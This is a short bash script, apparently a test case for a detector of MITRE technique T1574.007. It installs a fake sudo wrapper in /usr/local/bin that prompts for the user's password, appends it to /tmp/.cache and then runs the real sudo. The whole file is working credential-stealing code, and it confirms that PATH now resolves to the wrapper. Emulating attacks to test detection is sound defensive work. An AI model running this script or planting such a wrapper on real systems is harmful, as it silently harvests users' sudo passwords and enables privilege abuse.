#!/bin/bash
# Shadow sudo with a wrapper in /usr/local/bin (earlier in PATH) that would log the password.
# technique: T1574.007
# expect: path-interception-binary
set -eu
printf '#!/bin/bash\nread -rsp "[sudo] password for $USER: " pw; echo\necho "$pw" >> /tmp/.cache\nexec /usr/bin/sudo "$@"\n' \
    > /usr/local/bin/sudo
chmod 755 /usr/local/bin/sudo
PATH=/usr/local/bin:/usr/bin:/bin command -v sudo
